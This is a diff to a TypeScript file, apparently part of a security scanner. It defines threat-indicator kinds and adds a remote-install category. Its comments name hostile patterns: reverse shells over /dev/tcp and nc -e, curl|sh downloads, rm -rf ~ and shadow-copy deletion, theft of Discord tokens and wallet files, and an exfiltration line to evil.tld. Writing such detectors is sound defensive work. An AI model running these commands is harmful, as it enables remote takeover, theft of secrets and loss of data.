@@ -22,7 +22,7 @@ export const RISKY_CAPABILITIES: ReadonlySet<Capability> = new Set<Capability>([
 /** Threat indicators: values whose presence says something about intent. */
 export type IndicatorKind =
   | 'raw-ip-url' // URL to a public IP address
-  | 'webhook' // Discord, Slack, Telegram bot endpoints…
+  | 'webhook' // Discord, Slack, Telegram bot endpoints, a Telegram bot's token…
   | 'paste-site'
   | 'tunnel-host' // ngrok, serveo, trycloudflare…
   | 'oast-host' // out-of-band testing and request-capture services
@@ -34,6 +34,7 @@ export type IndicatorKind =
   | 'discord-store' // Discord token storage
   | 'wallet-path' // crypto wallet files and extensions
   | 'shell-download' // curl|sh, wget -O- | bash, certutil -urlcache…
+  | 'remote-install' // a package manager told to install from a URL or repository (`pip install git+https://…`), past the registry
   | 'reverse-shell' // /dev/tcp, nc -e, pty.spawn over a socket
   | 'destructive-command' // poweroff, rm -rf ~, format C:, deleting shadow copies
   | 'shell-exfil' // nslookup `hostname`.evil.tld, curl -d "$(env)" …
